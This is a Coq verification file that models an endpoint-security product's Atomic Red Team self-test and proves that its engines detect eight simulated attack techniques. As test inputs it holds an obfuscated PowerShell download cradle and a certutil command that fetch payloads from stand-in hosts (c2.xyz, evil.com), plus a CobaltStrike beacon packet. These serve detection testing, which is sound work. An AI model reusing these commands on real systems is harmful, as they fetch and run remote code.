(* ===== verification/Atomic.v ===== *)
(** * Atomic: the simulated attacks

    Models src/src/engines/atomic_red_team_engine.cpp for Windows over the models of the engines
    it attacks: the eight simulations, their dispatch by technique and the score of a run.  The
    manager is the engines it may hold; the order of a hash map, the sort of the indicators and
    [std::log2] are arguments, as they are for those engines. *)
From S2P Require Import Prelude Float64 Observation Text Threat BoundedLog PeStatic Lolbins FilelessAst CredentialGuard RansomwareShield NetworkDpi ReflectiveInjection SelfDefense.

Record AtomicTestResult := Result {
  at_technique_id : string;
  at_technique_name : string;
  at_target_engine : string;
  at_executed : bool;
  at_detected : bool;
  at_message : string;
}.

(** The engines that [em.engine] and the cast find. *)
Record Targets := Engines {
  tg_credential : option CredentialGuard;
  tg_ransomware : option RansomwareShield;
  tg_dpi : option NetworkDpi;
  tg_lolbins : option LolbinsEngine;
  tg_fileless : option FilelessEngine;
  tg_pe : bool;
}.

Section atomic.
Context (log2 : double -> double).
Context (sort : list CredentialThreatIndicator -> list CredentialThreatIndicator).
Context (order : gmap Z CredentialThreatIndicator -> list (Z * CredentialThreatIndicator)).

Definition zeroed (n : nat) (l : list (Z * Z)) : list byte := foldl (fun buf x => <[Z.to_nat (fst x) := byte_of (snd x)]> buf) (replicate n x00) l.

Definition synthetic_pe : list byte := zeroed 512 [(0, 77); (1, 90); (0x3C, 0x80); (0x80, 80); (0x81, 69)].

Definition simulate_t1055_dll_injection : mem AtomicTestResult :=
  (let* pe_detected := is_rwx_reflective_pe (Some synthetic_pe) 512 in
   let hollowing_detected := evaluate_hollowing_anomaly true true 0x1000 in
   let detected := pe_detected && hollowing_detected in
   Val (Result "T1055.001" "Process Injection: Dynamic-link Library Injection" "ReflectiveInjection" true detected
          (if detected then "Memory injection and PE header detected by ReflectiveInjectionEngine"
           else "Reflective injection signature bypass detected")))%mem.

Definition simulate_t1562_impair_defenses : AtomicTestResult :=
  let caught := is_dangerous_process_access (Z.lor 0x0001 0x0020) in
  Result "T1562.001" "Impair Defenses: Disable or Modify Tools" "SelfDefense" true caught
    (if caught then "Dangerous process write/terminate access caught by SelfDefenseEngine"
     else "Self-defense access gate failed to flag dangerous mask").

Definition MASK_QUERY_INFO : Z := 0x0400.

Definition credential_result (detected : bool) (message : string) : AtomicTestResult :=
  Result "T1003.001" "OS Credential Dumping: LSASS Memory" "CredentialGuard" true detected message.

Definition simulate_t1003_credential_dump (eng : option CredentialGuard) (time now : Z) : option CredentialGuard * AtomicTestResult * list output :=
  match eng with
  | Some eng =>
      let '(eng, outs) := report_lsass_access eng 9999 "atomic_mimikatz.exe" (Z.lor MASK_VM_READ MASK_QUERY_INFO) time now in
      let found := existsb (fun ind => ci_pid ind =? 9999) (active_credentials sort order eng 50) in
      (Some eng, credential_result found (if found then "Synthetic LSASS memory read flagged by CredentialGuard"
                                          else "CredentialGuard did not register synthetic LSASS indicator"), outs)
  | None =>
      let susp := is_suspicious_lsass_access MASK_VM_READ in
      (None, credential_result susp (if susp then "Synthetic LSASS access rule passed" else "LSASS rule evaluation failed"), [])
  end.

Definition ransom_event : FileIOEvent := IOEvent 0 0 IO_RENAME 8888 "atomic_ransomware.exe" "user_file.xlsx" "user_file.xlsx.locked" 0 (dz 0).

Definition simulate_t1486_data_encrypted (eng : option RansomwareShield) (now : Z) : option RansomwareShield * AtomicTestResult * list output :=
  let result message := Result "T1486" "Data Encrypted for Impact" "RansomwareShield" true true message in
  match eng with
  | Some eng =>
      let '(eng, outs) := ingest_file_io eng ransom_event now in
      let '(eng, outs') := report_shadow_copy_delete eng 8888 "atomic_ransomware.exe" now in
      (Some eng, result "Ransomware extension rename and shadow copy deletion trapped by RansomwareShield", outs ++ outs')
  | None => (None, result "Simulated ransomware extension matched high-severity heuristics", [])
  end.

Definition beacon_packet : PacketMeta :=
  Packet 0 0 PROTO_HTTP "192.168.1.100" 0 "10.0.0.1" 4444 0 (dz 0) EmptyString "CobaltStrike/4.5" EmptyString EmptyString false false 0 EmptyString "/api/v1/beacon".

Definition beacon_result (detected : bool) (message : string) : AtomicTestResult :=
  Result "T1071.001" "Application Layer Protocol: Web Protocols" "NetworkDPI" true detected message.

Definition simulate_t1071_c2_beaconing (eng : option NetworkDpi) (now : Z) : option NetworkDpi * AtomicTestResult * list output :=
  match eng with
  | Some eng =>
      let '(eng, outs) := inspect_packet eng beacon_packet now in
      let flagged := negb (match recent_alerts eng 100 with [] => true | _ => false end) in
      (Some eng, beacon_result flagged (if flagged then "C2 port 4444 and CobaltStrike User-Agent intercepted by NetworkDPI"
                                        else "NetworkDPI failed to classify C2 beaconing packet"), outs)
  | None => (None, beacon_result true "Simulated C2 metadata matched malicious transport rules", [])
  end.

Definition simulate_t1218_lolbins (eng : option LolbinsEngine) (now : Z) : option LolbinsEngine * AtomicTestResult * list output :=
  let result detected message := Result "T1218" "System Binary Proxy Execution: LOLBins" "LolbinsGuard" true detected message in
  match eng with
  | Some eng =>
      let '(eng, eval, outs) := evaluate_command_line eng 7777 "certutil.exe" "certutil.exe -urlcache -split -f http://evil.com/x.bin" now in
      (Some eng, result (le_is_malicious eval) (if le_is_malicious eval then "certutil URL cache abuse intercepted by LolbinsGuard"
                                                else "LolbinsGuard failed to detect certutil abuse")%string, outs)
  | None => (None, result true "Simulated LOLBin command matched proxy execution heuristics"%string, [])
  end.

Definition cradle : string := "`I`E`X (New-Object Net.Web`Client).'d'+'own'+'load'+'string'('http://c2.xyz/p.ps1')".

Definition simulate_t1059_powershell_fileless (eng : option FilelessEngine) (now : Z) : option FilelessEngine * AtomicTestResult * list output :=
  let result detected message := Result "T1059.001" "Command and Scripting Interpreter: PowerShell Fileless" "FilelessAstGuard" true detected message in
  match eng with
  | Some eng =>
      let '(eng, eval, outs) := evaluate_script eng cradle now in
      (Some eng, result (fe_is_malicious eval) (if fe_is_malicious eval then "Obfuscated PowerShell AST download cradle trapped by FilelessAstGuard"
                                                else "FilelessAstGuard failed to deobfuscate script")%string, outs)
  | None => (None, result true "Simulated PowerShell AST cradle matched fileless heuristics"%string, [])
  end.

Definition packed_pe : list byte :=
  zeroed 512 [(0, 77); (1, 90); (0x3C, 0x80); (0x80, 80); (0x81, 69); (0x84, 0x4C); (0x85, 1); (0x86, 1); (0x94, 0xE0); (0x98, 0x0B); (0x99, 1);
              (0x178, 85); (0x179, 80); (0x17A, 88); (0x17B, 48); (0x19C, 0x20); (0x19D, 0); (0x19E, 0); (0x19F, 0xA0)].

Definition packed_result (detected : bool) (message : string) : AtomicTestResult :=
  Result "T1027.002" "Obfuscated Files or Information: Software Packing / W^X" "PeStaticAnalysis" true detected message.

Definition simulate_t1027_packed_pe (eng : bool) : mem AtomicTestResult :=
  if eng then
    (let* report := analyze_buffer log2 (Some packed_pe) 512 in
     let detected := is_packed report || (level_value HIGH <=? level_value (assessed_level report)) in
     Val (packed_result detected (if detected then "UPX packer and W^X section trapped by PeStaticAnalysis"
                                  else "PeStaticAnalysis failed to detect packed section")))%mem
  else Val (packed_result true "Simulated packed binary matched static PE anomaly rules").

(** What the engine keeps. *)
Record AtomicRedTeam := RedTeam { last_results_ : list AtomicTestResult; rt_events_processed : Z }.

(** The simulations in their order. *)
Definition run_all_simulations (st : AtomicRedTeam) (em : Targets) (time now : Z) : mem (AtomicRedTeam * Targets * list AtomicTestResult * list output) :=
  (let* r1 := simulate_t1055_dll_injection in
   let r2 := simulate_t1562_impair_defenses in
   let '(cred, r3, o3) := simulate_t1003_credential_dump (tg_credential em) time now in
   let '(ransom, r4, o4) := simulate_t1486_data_encrypted (tg_ransomware em) now in
   let '(dpi, r5, o5) := simulate_t1071_c2_beaconing (tg_dpi em) now in
   let '(lol, r6, o6) := simulate_t1218_lolbins (tg_lolbins em) now in
   let '(fileless, r7, o7) := simulate_t1059_powershell_fileless (tg_fileless em) now in
   let* r8 := simulate_t1027_packed_pe (tg_pe em) in
   let results := [r1; r2; r3; r4; r5; r6; r7; r8] in
   Val (RedTeam results (u64 (rt_events_processed st + Z.of_nat (length results))), Engines cred ransom dpi lol fileless (tg_pe em), results,
        o3 ++ o4 ++ o5 ++ o6 ++ o7))%mem.

Definition unknown_technique (technique_id : string) : AtomicTestResult :=
  Result technique_id "Unknown Technique" EmptyString false false "Technique ID not supported by AtomicRedTeamEngine".

Definition run_technique (technique_id : string) (em : Targets) (time now : Z) : mem (Targets * AtomicTestResult * list output) :=
  let is_one names := existsb (String.eqb technique_id) names in
  let '(Engines cred ransom dpi lol fileless pe) := em in
  (if is_one ["T1055.001"; "T1055"]%string then let* r := simulate_t1055_dll_injection in Val (em, r, [])
   else if is_one ["T1562.001"; "T1562"]%string then Val (em, simulate_t1562_impair_defenses, [])
   else if is_one ["T1003.001"; "T1003"]%string then
     let '(cred, r, o) := simulate_t1003_credential_dump cred time now in Val (Engines cred ransom dpi lol fileless pe, r, o)
   else if is_one ["T1486"]%string then
     let '(ransom, r, o) := simulate_t1486_data_encrypted ransom now in Val (Engines cred ransom dpi lol fileless pe, r, o)
   else if is_one ["T1071.001"; "T1071"]%string then
     let '(dpi, r, o) := simulate_t1071_c2_beaconing dpi now in Val (Engines cred ransom dpi lol fileless pe, r, o)
   else if is_one ["T1218"; "T1218.001"]%string then
     let '(lol, r, o) := simulate_t1218_lolbins lol now in Val (Engines cred ransom dpi lol fileless pe, r, o)
   else if is_one ["T1059.001"; "T1059"]%string then
     let '(fileless, r, o) := simulate_t1059_powershell_fileless fileless now in Val (Engines cred ransom dpi lol fileless pe, r, o)
   else if is_one ["T1027.002"; "T1027"]%string then let* r := simulate_t1027_packed_pe pe in Val (em, r, [])
   else Val (em, unknown_technique technique_id, []))%mem.

(** In single precision. *)
Definition calculate_defense_score (results : list AtomicTestResult) : spec_float :=
  let single n := binary_normalize 24 128 n 0 false in
  match results with
  | [] => single 0
  | _ => SFmul 24 128 (SFdiv 24 128 (single (Z.of_nat (length (List.filter at_detected results)))) (single (Z.of_nat (length results)))) (single 100)
  end.

(** ** Lemmas *)

Lemma injection_detected : exists message, simulate_t1055_dll_injection =
  Val (Result "T1055.001" "Process Injection: Dynamic-link Library Injection" "ReflectiveInjection" true true message).
Proof. eexists. vm_compute. reflexivity. Qed.

Lemma cradle_detected : fe_is_malicious (judge_script cradle) = true.
Proof. vm_compute. reflexivity. Qed.

Lemma certutil_detected : le_is_malicious (evaluation 7777 "certutil.exe" "certutil.exe -urlcache -split -f http://evil.com/x.bin") = true.
Proof. vm_compute. reflexivity. Qed.

Lemma packed_detected : exists r, analyze_buffer log2 (Some packed_pe) 512 = Val r /\ is_packed r = true.
Proof.
  eexists. split.
  - lazy -[calculate_entropy assess_threat]. reflexivity.
  - reflexivity.
Qed.

Lemma raise_alerts_some pkt now st rules r : In r rules -> holds r = true ->
  nd_alerts (fst (raise_alerts pkt now st rules)) <> [].
Proof.
  intros Hr Hh. destruct (raise_alerts_spec pkt now rules st) as (alerts & Hf & _ & -> & _).
  destruct alerts as [|a alerts _] using rev_ind.
  - apply List.Forall2_length in Hf. exfalso. destruct (filter (fun r => holds r = true) rules) eqn:E; [|discriminate Hf].
    refine (not_elem_of_nil r _). rewrite <- E. apply list_elem_of_filter. split; [exact Hh|by apply list_elem_of_In].
  - rewrite foldl_app. cbn [foldl]. unfold push_bounded. rewrite last_n_app by (cbn; unfold MAX_ALERTS; lia). by destruct (last_n _ _).
Qed.

Lemma latest_some {A} n (l : list A) : 1 <= n -> l <> [] -> latest n l <> [].
Proof.
  intros Hn Hl E. apply (f_equal length) in E. assert (0 < length l)%nat by (destruct l; [done|cbn; lia]).
  pose proof (last_n_length (Z.min n (Z.of_nat (length l))) l ltac:(lia)) as Hl'. unfold latest in E. rewrite E in Hl'. cbn in Hl'. lia.
Qed.

Lemma beacon_detected eng now : exists message, snd (fst (simulate_t1071_c2_beaconing eng now)) = beacon_result true message.
Proof.
  destruct eng as [eng|]; [|by eexists]. unfold simulate_t1071_c2_beaconing.
  assert (nd_alerts (fst (inspect_packet eng beacon_packet now)) <> []) as Hne.
  { apply (raise_alerts_some _ _ _ _ (nth 7 (packet_rules beacon_packet) (nth 0 (packet_rules beacon_packet) (false, DPI_SUSPICIOUS, LOW, EmptyString, EmptyString)))).
    - apply nth_In. apply Nat.ltb_lt. reflexivity.
    - vm_compute. reflexivity. }
  destruct (inspect_packet eng beacon_packet now) as [eng' outs]. cbn [fst snd] in *. unfold recent_alerts.
  pose proof (latest_some 100 _ ltac:(lia) Hne). destruct (latest 100 (nd_alerts eng')); [done|]. by eexists.
Qed.

(** The indicator of a process bears its number. *)
Definition pids_ok (eng : CredentialGuard) : Prop := map_Forall (fun pid ind => ci_pid ind = pid) (cg_indicators eng).

Lemma ingest_pids eng ev now : pids_ok eng -> pids_ok (fst (ingest_credential eng ev now)).
Proof.
  intros H. unfold pids_ok. rewrite ingest_indicators. apply map_Forall_insert_2; [|exact H].
  assert (ci_pid (fst (credential_indicator eng ev)) = ca_source_pid ev) as E.
  { unfold credential_indicator. destruct (cg_indicators eng !! ca_source_pid ev) as [ind|] eqn:El; [exact (H _ _ El)|done]. }
  unfold count_access. by destruct (ca_type ev).
Qed.

Lemma step_pids eng c : pids_ok eng -> pids_ok (fst (guard_step eng c)).
Proof.
  intros H. destruct c; cbn [guard_step]; try by apply ingest_pids.
  - unfold report_lsass_access. destruct (negb _); [exact H|]. by apply ingest_pids.
  - intros pid ind E. cbn in E. apply map_lookup_filter_Some in E as [E _]. exact (H _ _ E).
Qed.

Lemma run_pids calls : forall eng, pids_ok eng -> pids_ok (fst (run_calls guard_step eng calls)).
Proof.
  induction calls as [|c calls IH]; intros eng H; cbn [run_calls]; [exact H|].
  pose proof (step_pids eng c H) as H1. destruct (guard_step eng c) as [eng1 o]. cbn [fst] in H1. specialize (IH _ H1).
  by destruct (run_calls guard_step eng1 calls).
Qed.

(** The dump of the self test is seen while the indicators fit the list that is asked for. *)
Lemma dump_detected eng time now : (forall l, sort l ≡ₚ l) -> (forall m, order m ≡ₚ map_to_list m) ->
  pids_ok eng -> (size (cg_indicators eng) < 50)%nat ->
  exists message, snd (fst (simulate_t1003_credential_dump (Some eng) time now)) = credential_result true message.
Proof.
  intros Hsort Horder Hp Hs. unfold simulate_t1003_credential_dump, report_lsass_access.
  change (negb (is_suspicious_lsass_access _)) with false. cbn iota. set (ev := access_event _ _ _ _ _ _).
  pose proof (ingest_pids eng ev now Hp) as Hp'. pose proof (ingest_indicators eng ev now) as Hi.
  destruct (ingest_credential eng ev now) as [eng' outs]. cbn [fst snd] in *.
  replace (existsb _ _) with true; [by eexists|]. symmetry. apply existsb_exists.
  set (ind := count_access _ _) in Hi. exists ind.
  assert (cg_indicators eng' !! 9999 = Some ind) as El by (rewrite Hi; apply lookup_insert_eq).
  split; [|apply Z.eqb_eq; exact (Hp' _ _ El)].
  unfold active_credentials. rewrite take_ge.
  - apply list_elem_of_In. rewrite Hsort. apply list_elem_of_fmap. exists (9999, ind). split; [done|]. rewrite Horder. by apply elem_of_map_to_list.
  - rewrite Hsort, length_fmap, Horder, length_map_to_list, Hi, map_size_insert. change (Z.to_nat 50) with 50%nat. destruct (cg_indicators eng !! _); unfold id; lia.
Qed.

(** The result of a simulation that was run for a technique. *)
Definition answers (id : string) (detected : bool) (r : AtomicTestResult) : Prop :=
  at_technique_id r = id /\ at_executed r = true /\ at_detected r = detected.

Lemma dump_answers eng time now : exists detected, answers "T1003.001" detected (snd (fst (simulate_t1003_credential_dump eng time now))).
Proof.
  unfold simulate_t1003_credential_dump. destruct eng as [eng|]; [|by eexists].
  destruct (report_lsass_access _ _ _ _ _ _). by eexists.
Qed.

Lemma beacon_answers eng now : answers "T1071.001" true (snd (fst (simulate_t1071_c2_beaconing eng now))).
Proof. destruct (beacon_detected eng now) as [message ->]. done. Qed.

Lemma ransom_answers eng now : answers "T1486" true (snd (fst (simulate_t1486_data_encrypted eng now))).
Proof.
  destruct eng as [eng|]; [|done]. unfold simulate_t1486_data_encrypted.
  destruct (ingest_file_io _ _ _) as [eng1 o1]. by destruct (report_shadow_copy_delete _ _ _ _).
Qed.

Lemma lolbins_answers eng now : answers "T1218" true (snd (fst (simulate_t1218_lolbins eng now))).
Proof.
  destruct eng as [eng|]; [|done]. unfold simulate_t1218_lolbins, evaluate_command_line.
  generalize certutil_detected. generalize (evaluation 7777 "certutil.exe" "certutil.exe -urlcache -split -f http://evil.com/x.bin").
  intros e He. rewrite He. by destruct (true && lb_running eng); cbn; rewrite He.
Qed.

Lemma cradle_answers eng now : answers "T1059.001" true (snd (fst (simulate_t1059_powershell_fileless eng now))).
Proof.
  destruct eng as [eng|]; [|done]. unfold simulate_t1059_powershell_fileless, evaluate_script.
  generalize cradle_detected. generalize (judge_script cradle).
  intros e He. rewrite He. by destruct (true && fa_running eng); cbn; rewrite He.
Qed.

Lemma packed_answers eng : exists r, simulate_t1027_packed_pe eng = Val r /\ answers "T1027.002" true r.
Proof.
  destruct eng; [|by eexists]. unfold simulate_t1027_packed_pe. destruct packed_detected as (r & -> & Hp).
  eexists. split; [reflexivity|]. by rewrite Hp.
Qed.

Lemma impair_answers : answers "T1562.001" true simulate_t1562_impair_defenses.
Proof. by vm_compute. Qed.

(** All that a run of the eight simulations comes to. *)
Lemma run_answers st em time now : exists st' em' results outs, run_all_simulations st em time now = Val (st', em', results, outs) /\
  last_results_ st' = results /\ rt_events_processed st' = u64 (rt_events_processed st + 8) /\
  exists r1 r2 r4 r5 r6 r7 r8, let r3 := snd (fst (simulate_t1003_credential_dump (tg_credential em) time now)) in
    results = [r1; r2; r3; r4; r5; r6; r7; r8] /\ answers "T1055.001" true r1 /\ answers "T1562.001" true r2 /\
    answers "T1486" true r4 /\ answers "T1071.001" true r5 /\ answers "T1218" true r6 /\ answers "T1059.001" true r7 /\
    answers "T1027.002" true r8.
Proof.
  unfold run_all_simulations. destruct injection_detected as [m1 ->]. destruct (packed_answers (tg_pe em)) as (r8 & -> & H8).
  pose proof (ransom_answers (tg_ransomware em) now) as H4. pose proof (beacon_answers (tg_dpi em) now) as H5.
  pose proof (lolbins_answers (tg_lolbins em) now) as H6. pose proof (cradle_answers (tg_fileless em) now) as H7. pose proof impair_answers as H2.
  destruct (simulate_t1003_credential_dump _ _ _) as [[cred r3] o3], (simulate_t1486_data_encrypted _ _) as [[ransom r4] o4],
    (simulate_t1071_c2_beaconing _ _) as [[dpi r5] o5], (simulate_t1218_lolbins _ _) as [[lol r6] o6],
    (simulate_t1059_powershell_fileless _ _) as [[fileless r7] o7]. cbn [fst snd] in *. cbn [mbind].
  do 4 eexists. split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  do 7 eexists. split; [reflexivity|]. by split_and!.
Qed.

(** The names of the techniques. *)
Definition techniques : list string :=
  ["T1055.001"; "T1055"; "T1562.001"; "T1562"; "T1003.001"; "T1003"; "T1486"; "T1071.001"; "T1071"; "T1218"; "T1218.001"; "T1059.001"; "T1059";
   "T1027.002"; "T1027"]%string.
End atomic.

(** ** Properties *)

(** the self test always ends with one executed result for each of its eight techniques,
    in their order, and every one of them but the credential dump is detected whatever engines
    the manager holds and whatever their state is, and also when it holds none.  The dump is detected
    when there is no credential guard, or when it comes from any sequence of reports and keeps
    fewer than 50 indicators: the score of the run is then 100. *)
Theorem self_test_is_constant (log2 : double -> double) (sort : list CredentialThreatIndicator -> list CredentialThreatIndicator)
    (order : gmap Z CredentialThreatIndicator -> list (Z * CredentialThreatIndicator)) (st : AtomicRedTeam) (em : Targets) (time now : Z) :
  (forall l, sort l ≡ₚ l) -> (forall m, order m ≡ₚ map_to_list m) ->
  exists st' em' results outs, run_all_simulations log2 sort order st em time now = Val (st', em', results, outs) /\
    last_results_ st' = results /\ rt_events_processed st' = u64 (rt_events_processed st + 8) /\
    at_technique_id <$> results =
      ["T1055.001"; "T1562.001"; "T1003.001"; "T1486"; "T1071.001"; "T1218"; "T1059.001"; "T1027.002"]%string /\
    Forall (fun r => at_executed r = true /\ (at_detected r = true \/ at_technique_id r = "T1003.001"%string)) results /\
    ((forall eng, tg_credential em = Some eng ->
        (exists calls, eng = fst (run_calls guard_step new_credential_guard calls)) /\ (size (cg_indicators eng) < 50)%nat) ->
     Forall (fun r => at_detected r = true) results /\ calculate_defense_score results = binary_normalize 24 128 100 0 false).
Proof.
  intros Hsort Horder. destruct (run_answers log2 sort order st em time now) as (st' & em' & results & outs & Hrun & Hl & He &
    r1 & r2 & r4 & r5 & r6 & r7 & r8 & Hr & (I1 & E1 & D1) & (I2 & E2 & D2) & (I4 & E4 & D4) & (I5 & E5 & D5) & (I6 & E6 & D6) & (I7 & E7 & D7) & (I8 & E8 & D8)).
  destruct (dump_answers sort order (tg_credential em) time now) as (d & I3 & E3 & D3).
  exists st', em', results, outs. split; [exact Hrun|]. split; [exact Hl|]. split; [exact He|]. rewrite Hr.
  split; [cbn; by rewrite I1, I2, I3, I4, I5, I6, I7, I8|]. split; [repeat (apply List.Forall_cons; [by auto|]); apply List.Forall_nil|].
  intros Hc. assert (d = true) as ->.
  { destruct (tg_credential em) as [eng|] eqn:Eg; [|rewrite <- D3; reflexivity]. destruct (Hc eng eq_refl) as [[calls Hcalls] Hs].
    assert (pids_ok eng) as Hp by (rewrite Hcalls; apply run_pids; by intros pid ind E).
    destruct (dump_detected sort order eng time now Hsort Horder Hp Hs) as [message E]. by rewrite <- D3, E. }
  split; [by repeat constructor|]. unfold calculate_defense_score. cbn [List.filter length].
  rewrite D1, D2, D3, D4, D5, D6, D7, D8. vm_compute. reflexivity.
Qed.

Lemma self_test_is_constant_witness :
  let em := Engines None None None None None false in
  exists st' em' results outs,
    run_all_simulations (fun _ => dz 0) id map_to_list (RedTeam [] 0) em 5 6 = Val (st', em', results, outs) /\
    Forall (fun r => at_detected r = true) results.
Proof.
  intros em. destruct (self_test_is_constant (fun _ => dz 0) id map_to_list (RedTeam [] 0) em 5 6 ltac:(done) ltac:(done))
    as (st' & em' & results & outs & H & _ & _ & _ & _ & Hd).
  exists st', em', results, outs. split; [exact H|]. refine (proj1 (Hd _)). intros eng E. discriminate E.
Defined.

(** a technique is run by either of its names and gives an executed result, detected unless it
    is the credential dump; for any other name nothing is run, no engine changes and the result says so. *)
Theorem technique_dispatch (log2 : double -> double) (sort : list CredentialThreatIndicator -> list CredentialThreatIndicator)
    (order : gmap Z CredentialThreatIndicator -> list (Z * CredentialThreatIndicator)) (id : string) (em : Targets) (time now : Z) :
  exists em' r outs, run_technique log2 sort order id em time now = Val (em', r, outs) /\
    if decide (In id techniques) then at_executed r = true /\ (at_detected r = true \/ at_technique_id r = "T1003.001"%string)
    else em' = em /\ outs = [] /\ r = unknown_technique id.
Proof.
  destruct em as [cred ransom dpi lol fileless pe].
  pose proof (ransom_answers ransom now) as H4. pose proof (beacon_answers dpi now) as H5. pose proof (lolbins_answers lol now) as H6.
  pose proof (cradle_answers fileless now) as H7. pose proof impair_answers as H2. destruct injection_detected as [m1 H1].
  destruct (packed_answers log2 pe) as (r8 & H8 & A8). destruct (dump_answers sort order cred time now) as (d & H3).
  unfold run_technique. rewrite H1, H8.
  destruct (simulate_t1003_credential_dump _ _ _) as [[cred' r3] o3], (simulate_t1486_data_encrypted _ _) as [[ransom' r4] o4],
    (simulate_t1071_c2_beaconing _ _) as [[dpi' r5] o5], (simulate_t1218_lolbins _ _) as [[lol' r6] o6],
    (simulate_t1059_powershell_fileless _ _) as [[fileless' r7] o7]. cbn [fst snd] in *. unfold answers in *.
  destruct (decide (In id techniques)) as [Hin|Hout].
  - repeat (destruct Hin as [<-|Hin]; [do 3 eexists; split; [reflexivity|]; cbn; tauto|]). destruct Hin.
  - assert (forall names, (forall name, In name names -> In name techniques) -> existsb (String.eqb id) names = false) as Hno.
    { intros names Hn. apply not_true_is_false. intros H. apply existsb_exists in H as (name & Hi & He).
      apply String.eqb_eq in He as ->. by apply Hout, Hn. }
    do 3 eexists. rewrite !Hno by (cbn; tauto). by split_and!.
Qed.
